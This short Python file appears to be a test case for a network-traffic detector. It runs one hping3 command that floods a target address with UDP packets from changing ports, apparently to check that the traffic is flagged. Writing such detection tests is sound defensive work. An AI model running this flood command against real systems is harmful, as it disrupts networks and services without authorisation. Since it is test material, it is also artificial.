# SPDX-License-Identifier: Apache-2.0
"""hping3 floods a victim with UDP from changing ports."""
from kit import *

FAMILIES = (4,)
ALLOWED, AT_LEAST, COUNT = UDP, 1, conversations


def attack(pot, out):
    pot.run(f"hping3 -q -n -I eth0 --udp -s 20000 -p ++2200 -d 500 -c 800 -i u500 {out.far(4)}")
